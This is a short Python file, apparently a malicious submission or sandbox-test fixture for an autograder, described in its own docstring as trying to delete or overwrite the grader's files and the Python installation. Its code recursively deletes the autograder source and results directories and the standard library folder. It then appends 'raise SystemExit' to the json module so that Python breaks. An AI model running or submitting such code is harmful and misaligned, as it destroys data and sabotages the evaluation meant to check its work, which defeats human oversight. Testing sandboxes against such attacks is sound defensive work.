"""Tries to delete or overwrite the grader's files and the Python installation."""
BASE = "solution"
ZERO = []
import glob
import os
import shutil
import sys

for target in ["/autograder/source", "/autograder/results", os.path.dirname(os.__file__),
               *glob.glob("/work/*/autograder"), *glob.glob("/tmp/autograder-*")]:
    shutil.rmtree(target, ignore_errors=True)
try:
    with open(os.path.join(os.path.dirname(os.__file__), "json", "__init__.py"), "a") as f:
        f.write("raise SystemExit")
except OSError:
    pass
